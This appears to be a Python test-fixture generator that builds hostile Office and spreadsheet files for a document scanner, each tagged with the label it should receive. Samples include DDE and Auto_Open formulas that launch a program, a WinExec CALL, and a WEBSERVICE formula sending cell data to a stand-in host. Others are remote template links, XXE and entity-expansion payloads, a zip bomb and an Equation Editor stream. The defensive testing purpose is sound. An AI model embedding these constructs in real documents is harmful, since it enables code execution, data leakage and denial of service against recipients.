"""Workbooks with macros, links, entities and formulas that start programs; old Office files are written here byte by byte."""

import struct
from collections.abc import Callable

from tests.generators.hostile.markup import SHEET_XXE, laughs
from tests.generators.hostile.plain import a_zip, an_xlsx, replaced

_SHEET = "xl/worksheets/sheet1.xml"
_DDE = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
_OLE_LINK = _DDE.replace(b"ddeLink ddeService", b"oleLink progId").replace(b"ddeTopic", b"x")
_TEMPLATE = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://example.com/x.dotm" TargetMode="External"/></Relationships>'
)
_OBJECT = _TEMPLATE.replace(b"attachedTemplate", b"oleObject")
_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole2(streams: dict[str, bytes]) -> bytes:
    """An old Office container with these streams in its root, each of 4,096 bytes or more, so that none is a small one."""
    padded = {name: content.ljust(4096, b"\0") for name, content in streams.items()}
    sectors, chains, starts = [], [], {}
    for name, content in padded.items():
        starts[name] = len(sectors)
        parts = [content[at : at + 512].ljust(512, b"\0") for at in range(0, len(content), 512)]
        chains += [len(sectors) + number + 1 for number in range(len(parts) - 1)] + [_END]
        sectors += parts
    entries = [_entry("Root Entry", 5, _END, 0, child=1 if padded else _FREE)]
    for number, (name, content) in enumerate(padded.items(), start=1):
        entries.append(_entry(name, 2, starts[name], len(content), right=number + 1 if number < len(padded) else _FREE))
    directory = b"".join(entries).ljust(-(-len(entries) // 4) * 512, b"\0")
    first = len(sectors)
    parts = [directory[at : at + 512] for at in range(0, len(directory), 512)]
    chains += [first + number + 1 for number in range(len(parts) - 1)] + [_END]
    sectors += parts
    table = len(sectors)
    chains.append(_FAT)
    assert len(chains) <= 128
    sectors.append(struct.pack("<128I", *chains, *[_FREE] * (128 - len(chains))))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    head += struct.pack("<IIIIIIIII", 0, 1, first, 0, 4096, _END, 0, _END, 0) + struct.pack("<109I", table, *[_FREE] * 108)
    return head + b"".join(sectors)


def _entry(name: str, kind: int, start: int, size: int, right: int = _FREE, child: int = _FREE) -> bytes:
    text = name.encode("utf-16-le")
    return text.ljust(64, b"\0") + struct.pack("<HBBIII", len(text) + 2, kind, 1, _FREE, right, child) + b"\0" * 36 + struct.pack("<IQ", start, size)


def _bof() -> bytes:
    """The first records of an old workbook."""
    return struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0x1234, 1997, 0, 6) + struct.pack("<HH", 0x0A, 0)


def _with_formula(formula: str) -> bytes:
    cell = f'<c r="A1"><f>{formula}</f><v>0</v></c></row></sheetData>'.encode()
    return replaced(an_xlsx(), _SHEET, lambda sheet: sheet.replace(b"</row></sheetData>", cell.replace(b'"A1"', b'"B1"')))


def _with_text(text: str) -> bytes:
    return replaced(an_xlsx(), "xl/sharedStrings.xml", lambda part: part.replace(b"Particulars", text.encode()))


def _named_formula() -> bytes:
    name = b"<definedNames><definedName name=\"_xlnm.Auto_Open\">cmd|'/c calc'!A0</definedName></definedNames><calcPr"
    return replaced(an_xlsx(), "xl/workbook.xml", lambda book: book.replace(b"<calcPr", name, 1))


def _twice() -> bytes:
    """Two parts of one name: one program reads the first, another the second."""
    return an_xlsx((_SHEET, b"<worksheet><sheetData/></worksheet>"))


def _an_ods(*more: tuple[str, bytes]) -> bytes:
    content = b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'
    return a_zip(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", content), *more)


FAMILY: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "sheet bomb": ("bomb.xlsx", lambda: an_xlsx(("xl/worksheets/sheet2.xml", b" " * 60_000_000)), "document.zip_bomb"),
    "entity in a sheet": ("book.xlsx", lambda: an_xlsx(("xl/worksheets/sheet9.xml", SHEET_XXE)), "document.xml_entities"),
    "entity bomb in a sheet": ("book.xlsx", lambda: an_xlsx(("xl/worksheets/sheet9.xml", laughs())), "document.xml_entities"),
    "entity behind a long comment": (
        "book.xlsx",
        lambda: an_xlsx(("xl/worksheets/sheet9.xml", b"<!--" + b"x" * 9000 + b"-->" + SHEET_XXE)),
        "document.xml_entities",
    ),
    "entity in UTF-16 in a sheet": (
        "book.xlsx",
        lambda: an_xlsx(("xl/worksheets/sheet9.xml", SHEET_XXE.decode().replace("?>", ' encoding="UTF-16"?>').encode("utf-16"))),
        "document.xml_entities",
    ),
    "entity in relationships": ("book.xlsx", lambda: an_xlsx(("xl/worksheets/_rels/sheet9.xml.rels", SHEET_XXE)), "document.xml_entities"),
    "XLSX with macros": ("macro.xlsm", lambda: an_xlsx(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)), "document.macro"),
    "macros under the name .xlsx": ("plain.xlsx", lambda: an_xlsx(("xl/vbaProject.bin", b"\0" * 60)), "document.macro"),
    "Excel 4 macros": ("old.xlsx", lambda: an_xlsx(("xl/macrosheets/sheet1.xml", b"<x/>")), "document.macro"),
    "macros in a letter": ("letter.docm", lambda: a_zip(("word/document.xml", b"<x/>"), ("word/vbaProject.bin", b"\0" * 60)), "document.macro"),
    "DDE link": ("dde.xlsx", lambda: an_xlsx(("xl/externalLinks/externalLink1.xml", _DDE)), "document.active_content"),
    "OLE link": ("ole.xlsx", lambda: an_xlsx(("xl/externalLinks/externalLink1.xml", _OLE_LINK)), "document.active_content"),
    "template from elsewhere": (
        "template.docx",
        lambda: a_zip(("word/document.xml", b"<x/>"), ("word/_rels/settings.xml.rels", _TEMPLATE)),
        "document.active_content",
    ),
    "object from elsewhere": ("object.xlsx", lambda: an_xlsx(("xl/worksheets/_rels/sheet1.xml.rels", _OBJECT)), "document.active_content"),
    "ActiveX": ("activex.xlsx", lambda: an_xlsx(("xl/activeX/activeX1.xml", b"<x/>")), "document.active_content"),
    "embedded object": ("embedded.xlsx", lambda: an_xlsx(("xl/embeddings/oleObject1.bin", b"\0" * 600)), "document.active_content"),
    "link in a workbook of macros": (
        "linked.xlsm",
        lambda: an_xlsx(("xl/vbaProject.bin", b"\0" * 60), ("xl/externalLinks/externalLink1.xml", b"<externalLink/>")),
        "document.external_link",
    ),
    "formula that starts a program": ("dde.xlsx", lambda: _with_formula("cmd|'/C calc'!A0"), "document.virus"),
    "formula that calls out": ("web.xlsx", lambda: _with_formula('WEBSERVICE("http://example.com/"&amp;A1)'), "document.active_content"),
    "formula that calls a library": ("call.xlsx", lambda: _with_formula('CALL("Kernel32","WinExec","JCJ","calc",0)'), "document.active_content"),
    "text that would start a program": ("text.xlsx", lambda: _with_text("=cmd|'/C calc'!A0"), "document.virus"),
    "name that starts a program": ("name.xlsx", _named_formula, "document.virus"),
    "part that stands twice": ("twice.xlsx", _twice, "document."),
    "cut-off XLSX": ("cut.xlsx", lambda: an_xlsx()[:-500], "document.truncated"),
    "macros in an ODS": ("macro.ods", lambda: _an_ods(("Basic/Standard/Module1.xml", b"<script:module/>")), "document.macro"),
    "script in an ODS": ("script.ods", lambda: _an_ods(("Scripts/python/run.py", b"import os")), "document.macro"),
    "cut-off old Excel": ("old.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + b"\0" * 100, "document.truncated"),
    "macros in an old Excel": ("old.xls", lambda: ole2({"Workbook": _bof(), "VBA/dir": b"\1", "_VBA_PROJECT": b"\xcc\x61"}), "document."),
    "object in an old Excel": ("object.xls", lambda: ole2({"Workbook": _bof(), "\x01Ole10Native": b"\0calc.exe\0"}), "document.active_content"),
    "equation editor": (
        "equation.xls",
        lambda: ole2({"Workbook": _bof(), "Equation Native": b"Equation.3\0\x02\xce\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"}),
        "document.virus",
    ),
    "installer": ("setup.xls", lambda: ole2({"\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824": b"\0"}), "document."),
}

LOCKED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "locked workbook": ("locked.xlsx", lambda: ole2({"EncryptedPackage": b"\0", "EncryptionInfo": b"\4\0\4\0"}), "document.password"),
}
